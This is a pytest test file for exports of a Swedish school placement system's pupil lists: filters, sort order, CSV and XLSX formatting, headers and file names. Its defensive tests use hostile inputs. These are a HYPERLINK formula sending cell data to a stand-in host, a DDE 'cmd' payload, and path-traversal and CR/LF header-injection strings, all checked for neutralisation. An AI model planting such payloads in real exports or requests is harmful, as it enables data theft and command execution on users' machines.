"""Placement lists as a coordinator downloads them: rows, filters, CSV, XLSX, headers and file names."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
from collections.abc import Sequence
from typing import Any, NamedTuple

import openpyxl
import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from placement import audit
from placement import models as m
from placement.enums import AssignmentStatus, JobState
from placement.errors import NotFound
from placement.reports import exports
from placement.rounds import bridge, jobs
from placement.rounds import setup as rounds
from placement.runtime import worker
from tests import factories as f
from tests.conftest import placement_headers, placements_sheet

W45_START = dt.date(2026, 11, 2)
W45_END = dt.date(2026, 11, 13)
HOSTILE_NAME = '=HYPERLINK("http://x?"&A1)'


def _csv(rows: Sequence[exports.PlacementRow], locale: str) -> bytes:
    """The placement list as CSV, with the headers the web layer gives a user of ``locale``."""
    return exports.to_csv(rows, placement_headers(locale))


def _xlsx(rows: Sequence[exports.PlacementRow], locale: str) -> bytes:
    """The placement list as XLSX, headers and sheet name as the web layer gives them to a user of ``locale``."""
    return exports.to_xlsx(rows, placement_headers(locale), title=placements_sheet(locale))


class World(NamedTuple):
    allocation_round: m.AllocationRound
    schools: list[m.School]
    employers: list[m.Employer]
    offers: list[m.Offer]
    pupils: dict[str, m.Pupil]


def _world(session: Session) -> World:
    """Two schools, two employers, three offers; five pupils placed in a published round without the solver."""
    w45 = f.period(session, code="w45", start_date=W45_START, end_date=W45_END)
    schools = [f.school(session, code="S012", name="Ängskolan"), f.school(session, code="S034", name="Björkskolan")]
    employers = [f.employer(session, name="Volvo Lastvagnar AB"), f.employer(session, name="Åhléns AB")]
    offers = [
        f.offer(
            session,
            employer=employers[0],
            places={w45: 5},
            title="+46 Kundtjänst",
            supervisor_name="Åsa Öberg",
            supervisor_phone="031-123 45 67",
            supervisor_email="asa.oberg@example.se",
            workplace=f.workplace(
                session, employer=employers[0], name="Torslanda", address="Volvogatan 1, 405 31 Göteborg"
            ),
        ),
        f.offer(session, employer=employers[1], places={w45: 5}, title="-lager och logistik"),
        f.offer(session, employer=employers[1], places={w45: 5}, title="@butik"),
    ]
    class_8a = f.school_class(session, school=schools[0], name="8A", period=w45)
    class_8b = f.school_class(session, school=schools[0], name="8B", period=w45)
    class_9a = f.school_class(session, school=schools[1], name="9A", period=w45)
    pupils = {
        "asa": f.pupil(session, school_class=class_8a, first_name="Åsa", last_name="Öberg"),
        "hostile": f.pupil(session, school_class=class_8a, first_name=HOSTILE_NAME, last_name="Andersson"),
        "cecilia": f.pupil(session, school_class=class_8b, first_name="Cecilia", last_name="Berg"),
        "david": f.pupil(session, school_class=class_9a, first_name="David", last_name="Zetterlund"),
        "declined": f.pupil(session, school_class=class_9a, first_name="Erik", last_name="Ek"),
    }
    allocation_round = rounds.create_round(session, "Höst / v45 – åäö", ["w45"], actor=audit.CLI)
    for key, offer, status, rank in (
        ("asa", offers[0], AssignmentStatus.CONFIRMED, 1),
        ("hostile", offers[1], AssignmentStatus.PUBLISHED, 2),
        ("cecilia", offers[2], AssignmentStatus.PUBLISHED, None),
        ("cecilia", offers[0], AssignmentStatus.PROPOSED, 1),  # a pending change: the list shows the one in force
        ("david", offers[0], AssignmentStatus.LOCKED, None),
        ("declined", offers[1], AssignmentStatus.DECLINED, 1),  # history, not a placement
    ):
        session.add(
            m.Assignment(round=allocation_round, pupil=pupils[key], offer=offer, period=w45, rank=rank, status=status)
        )
    session.flush()
    return World(allocation_round, schools, employers, offers, pupils)


def _codes(rows: list[exports.PlacementRow]) -> set[str]:
    return {r.pupil_code for r in rows}


def _code(pupil: m.Pupil) -> str:
    return bridge.student_id(pupil.id)


def _csv_table(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


# --- rows -------------------------------------------------------------------------------------------------------------


def test_one_row_per_placed_pupil_with_school_employer_and_offer(db_session: Session) -> None:
    world = _world(db_session)
    rows = exports.placement_rows(db_session, world.allocation_round.id)
    by_code = {r.pupil_code: r for r in rows}
    assert len(rows) == len(by_code) == 4
    assert _code(world.pupils["declined"]) not in by_code
    asa = by_code[_code(world.pupils["asa"])]
    assert (asa.school, asa.class_name, asa.last_name, asa.first_name) == ("Ängskolan", "8A", "Öberg", "Åsa")
    assert (asa.employer, asa.offer_code, asa.offer_title) == (
        "Volvo Lastvagnar AB",
        world.offers[0].code,
        "+46 Kundtjänst",
    )
    assert (asa.workplace, asa.address) == ("Torslanda", "Volvogatan 1, 405 31 Göteborg")
    assert (asa.supervisor, asa.supervisor_phone, asa.supervisor_email) == (
        "Åsa Öberg",
        "031-123 45 67",
        "asa.oberg@example.se",
    )
    assert (asa.period, asa.start, asa.end) == ("w45", W45_START, W45_END)
    assert (asa.rank, asa.status) == (1, "confirmed")
    cecilia = by_code[_code(world.pupils["cecilia"])]
    assert (cecilia.offer_code, cecilia.status, cecilia.rank) == (world.offers[2].code, "published", None)
    assert by_code[_code(world.pupils["david"])].status == "locked"


def test_rows_are_sorted_by_school_class_and_name_in_swedish_order(db_session: Session) -> None:
    world = _world(db_session)
    rows = exports.placement_rows(db_session, world.allocation_round.id)
    # Ä after Z whatever the database's collation; within a class by last name.
    assert [(r.school, r.class_name, r.last_name) for r in rows] == [
        ("Björkskolan", "9A", "Zetterlund"),
        ("Ängskolan", "8A", "Andersson"),
        ("Ängskolan", "8A", "Öberg"),
        ("Ängskolan", "8B", "Berg"),
    ]


def test_rows_hold_no_birth_date_gender_or_attributes() -> None:
    fields = {field.name for field in dataclasses.fields(exports.PlacementRow)}
    assert not fields & {"birth_year", "birth_month", "gender", "attributes", "external_id"}
    assert list(exports.COLUMNS) == [field.name for field in dataclasses.fields(exports.PlacementRow)]


def test_a_school_gets_only_its_pupils(db_session: Session) -> None:
    world = _world(db_session)
    angskolan = exports.placement_rows(db_session, world.allocation_round.id, school_id=world.schools[0].id)
    assert _codes(angskolan) == {_code(world.pupils[k]) for k in ("asa", "hostile", "cecilia")}
    assert {r.school for r in angskolan} == {"Ängskolan"}
    bjorkskolan = exports.placement_rows(db_session, world.allocation_round.id, school_id=world.schools[1].id)
    assert _codes(bjorkskolan) == {_code(world.pupils["david"])}


def test_an_employer_gets_only_the_pupils_placed_with_it(db_session: Session) -> None:
    world = _world(db_session)
    volvo = exports.placement_rows(db_session, world.allocation_round.id, employer_id=world.employers[0].id)
    # Cecilia's pending proposal at Volvo is not her placement: she is not on Volvo's list.
    assert _codes(volvo) == {_code(world.pupils[k]) for k in ("asa", "david")}
    ahlens = exports.placement_rows(db_session, world.allocation_round.id, employer_id=world.employers[1].id)
    assert _codes(ahlens) == {_code(world.pupils[k]) for k in ("hostile", "cecilia")}
    assert {r.employer for r in ahlens} == {"Åhléns AB"}
    both = exports.placement_rows(
        db_session, world.allocation_round.id, school_id=world.schools[1].id, employer_id=world.employers[1].id
    )
    assert both == []


def test_a_proposed_round_lists_its_proposals(db_session: Session) -> None:
    w45 = f.period(db_session, code="w45")
    offer = f.offer(db_session, places={w45: 2})
    pupil = f.pupil(db_session, school_class=f.school_class(db_session, period=w45))
    allocation_round = rounds.create_round(db_session, "Vår", ["w45"], actor=audit.CLI)
    db_session.add(m.Assignment(round=allocation_round, pupil=pupil, offer=offer, period=w45, rank=3))
    db_session.flush()
    [row] = exports.placement_rows(db_session, allocation_round.id)
    assert (row.pupil_code, row.offer_code, row.rank, row.status) == (_code(pupil), offer.code, 3, "proposed")


def test_an_unknown_round_is_not_found(db_session: Session) -> None:
    with pytest.raises(NotFound, match="allocation round 999999 does not exist"):
        exports.placement_rows(db_session, 999999)


@pytest.fixture
def make_session(db_session: Session) -> sessionmaker[Session]:
    return sessionmaker(bind=db_session.connection(), join_transaction_mode="create_savepoint", expire_on_commit=False)


def test_a_solved_round_exports_every_placement_of_the_solver(
    db_session: Session, make_session: sessionmaker[Session]
) -> None:
    allocation_round, pupils, _ = f.small_round(db_session)
    job = jobs.enqueue(db_session, allocation_round.id, actor=audit.Actor("user:1"))
    assert worker.run_job(make_session, job.id, heartbeat_s=None) is JobState.SUCCEEDED
    db_session.expire_all()
    placed = {
        a.pupil_id: a
        for a in db_session.scalars(select(m.Assignment).where(m.Assignment.round_id == allocation_round.id))
    }
    assert placed
    rows = exports.placement_rows(db_session, allocation_round.id)
    assert len(rows) == len(placed)
    by_code = {r.pupil_code: r for r in rows}
    for pupil in pupils:
        if pupil.id not in placed:
            assert _code(pupil) not in by_code
            continue
        row, assignment = by_code[_code(pupil)], placed[pupil.id]
        assert (row.school, row.class_name) == (pupil.school.name, pupil.school_class.name)
        assert (row.offer_code, row.employer) == (assignment.offer.code, assignment.offer.employer.name)
        assert (row.rank, row.status) == (assignment.rank, "proposed")


# --- formula injection ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        (HOSTILE_NAME, "'" + HOSTILE_NAME),
        ("+46 70", "'+46 70"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Åsa", "Åsa"),
        ("a=b", "a=b"),
        ("", ""),
        (3, 3),
        (None, None),
        (W45_START, W45_START),
    ],
)
def test_neutralise_prefixes_only_formula_starts(value: object, expected: object) -> None:
    assert exports.neutralise(value) == expected


def test_csv_cells_that_look_like_formulas_get_an_apostrophe(db_session: Session) -> None:
    world = _world(db_session)
    table = _csv_table(_csv(exports.placement_rows(db_session, world.allocation_round.id), "sv"))
    cells = {cell for row in table[1:] for cell in row}
    assert "'" + HOSTILE_NAME in cells
    assert {"'+46 Kundtjänst", "'-lager och logistik", "'@butik"} <= cells
    assert not any(cell.startswith(exports.FORMULA_START) for cell in cells)


def test_xlsx_cells_that_look_like_formulas_are_plain_text_with_an_apostrophe(db_session: Session) -> None:
    world = _world(db_session)
    data = exports.to_xlsx(
        exports.placement_rows(db_session, world.allocation_round.id),
        placement_headers("sv"),
        title=placements_sheet("sv"),
    )
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    texts = {cell.value: cell for cell in cells if isinstance(cell.value, str)}
    for expected in ("'" + HOSTILE_NAME, "'+46 Kundtjänst", "'-lager och logistik", "'@butik"):
        assert texts[expected].data_type == "s"
    assert not any(cell.data_type == "f" for cell in cells)
    assert not any(text.startswith(exports.FORMULA_START) for text in texts)


def _row(**changes: Any) -> exports.PlacementRow:
    base = exports.PlacementRow(
        school="Skola",
        class_name="8A",
        last_name="Ek",
        first_name="Eva",
        pupil_code="P000001",
        period="w45",
        start=W45_START,
        end=W45_END,
        employer="AB",
        offer_code="O1",
        offer_title="Lager",
        workplace="Lagret",
        address="Gatan 1",
        supervisor="",
        supervisor_phone="",
        supervisor_email="",
        rank=None,
        status="published",
    )
    return dataclasses.replace(base, **changes)


def test_xlsx_keeps_error_codes_and_control_characters_as_harmless_text() -> None:
    data = exports.to_xlsx(
        [_row(last_name="#N/A", first_name="Eva\x07\x1b", offer_title="=cmd|' /C calc'!A0")],
        placement_headers("en"),
        title=placements_sheet("en"),
    )
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    values = {cell.value: cell.data_type for cell in sheet[2]}
    assert values["#N/A"] == "s"
    assert values["Eva"] == "s"
    assert values["'=cmd|' /C calc'!A0"] == "s"


# --- CSV --------------------------------------------------------------------------------------------------------------


def test_csv_opens_in_swedish_excel(db_session: Session) -> None:
    world = _world(db_session)
    rows = exports.placement_rows(db_session, world.allocation_round.id)
    data = _csv(rows, "sv")
    assert data.startswith(b"\xef\xbb\xbf")
    assert "Åsa".encode() in data
    header_line = data[3:].split(b"\r\n", 1)[0].decode()
    assert header_line.split(";")[:5] == ["Skola", "Klass", "Efternamn", "Förnamn", "Elevkod"]
    table = _csv_table(data)
    assert table[0] == placement_headers("sv")
    assert len(table) == 1 + len(rows)
    assert all(len(line) == len(exports.COLUMNS) for line in table)
    asa = next(line for line in table if line[4] == _code(world.pupils["asa"]))
    header = table[0]
    assert (asa[header.index("Förnamn")], asa[header.index("Efternamn")]) == ("Åsa", "Öberg")
    assert (asa[header.index("Från")], asa[header.index("Till")]) == ("2026-11-02", "2026-11-13")
    assert asa[header.index("Handledare")] == "Åsa Öberg"
    assert asa[header.index("Val nr")] == "1"
    cecilia = next(line for line in table if line[4] == _code(world.pupils["cecilia"]))
    assert cecilia[header.index("Val nr")] == ""  # unranked


def test_csv_quotes_semicolons_quotes_and_line_breaks() -> None:
    title = 'Kock; "kall" kök\noch disk'
    table = _csv_table(_csv([_row(offer_title=title)], "en"))
    assert len(table) == 2
    assert table[1][table[0].index("Title")] == title


# --- XLSX -------------------------------------------------------------------------------------------------------------


def test_xlsx_has_a_bold_frozen_header_date_cells_and_widths(db_session: Session) -> None:
    world = _world(db_session)
    rows = exports.placement_rows(db_session, world.allocation_round.id)
    sheet = openpyxl.load_workbook(io.BytesIO(_xlsx(rows, "sv"))).active
    assert sheet is not None
    assert sheet.title == "Placeringar"
    header = [cell.value for cell in sheet[1]]
    assert header == placement_headers("sv")
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.max_row == 1 + len(rows)
    start, end = header.index("Från") + 1, header.index("Till") + 1
    for row_number in range(2, sheet.max_row + 1):
        for column, day in ((start, W45_START), (end, W45_END)):
            cell = sheet.cell(row=row_number, column=column)
            assert cell.is_date
            assert cell.value.date() == day
    names = {(r[header.index("Förnamn")].value, r[header.index("Efternamn")].value) for r in sheet.iter_rows(min_row=2)}
    assert ("Åsa", "Öberg") in names
    for letter in ("A", "C", "K"):
        assert sheet.column_dimensions[letter].width >= 8


def test_xlsx_leaves_the_rank_of_an_unranked_placement_empty() -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(_xlsx([_row(rank=None), _row(rank=2)], "en"))).active
    assert sheet is not None
    column = [cell.value for cell in sheet[1]].index("Choice no.") + 1
    assert [sheet.cell(row=r, column=column).value for r in (2, 3)] == [None, 2]


def test_an_empty_list_is_a_header_row() -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(_xlsx([], "en"))).active
    assert sheet is not None
    assert sheet.title == "Placements"
    assert sheet.max_row == 1
    assert _csv_table(_csv([], "en")) == [placement_headers("en")]


# --- headers and file names -------------------------------------------------------------------------------------------


def test_headers_in_swedish_and_english() -> None:
    sv, en = placement_headers("sv"), placement_headers("en")
    assert len(sv) == len(en) == len(exports.COLUMNS)
    assert sv[:10] == [
        "Skola",
        "Klass",
        "Efternamn",
        "Förnamn",
        "Elevkod",
        "Period",
        "Från",
        "Till",
        "Arbetsgivare",
        "Erbjudande",
    ]
    assert en[:10] == [
        "School",
        "Class",
        "Last name",
        "First name",
        "Pupil code",
        "Period",
        "From",
        "To",
        "Employer",
        "Offer code",
    ]
    assert placement_headers("en_GB") == en
    assert placement_headers("de") == sv


@pytest.mark.parametrize(
    ("kind", "scope", "expected_end"),
    [
        ("school", "S012", "-school-S012.xlsx"),
        ("employer", "E/../0001 Åhléns", "-employer-E-0001-Ahlens.xlsx"),
        ("all", None, "-all.xlsx"),
        ("school", 'a"b\r\nContent-Type: x', "-school-a-b-Content-Type-x.xlsx"),
    ],
)
def test_file_names_are_safe_ascii_whatever_the_names(
    db_session: Session, kind: str, scope: str | None, expected_end: str
) -> None:
    f.period(db_session, code="w45")
    allocation_round = rounds.create_round(db_session, 'Höst / v45: Åsa & Örjan\'s "runda"', ["w45"], actor=audit.CLI)
    name = exports.filename(allocation_round, kind, "xlsx", scope)
    assert name == f"praktik-round-{allocation_round.id}{expected_end}"
    stem, extension = name.rsplit(".", 1)
    assert extension == "xlsx"
    assert stem.isascii()
    assert all(ch.isalnum() or ch in "_-" for ch in stem)


def test_file_names_take_only_known_formats(db_session: Session) -> None:
    f.period(db_session, code="w45")
    allocation_round = rounds.create_round(db_session, "Höst", ["w45"], actor=audit.CLI)
    assert exports.filename(allocation_round, "all", "csv", None) == f"praktik-round-{allocation_round.id}-all.csv"
    with pytest.raises(ValueError, match="not one of csv, xlsx"):
        exports.filename(allocation_round, "all", "../x", None)
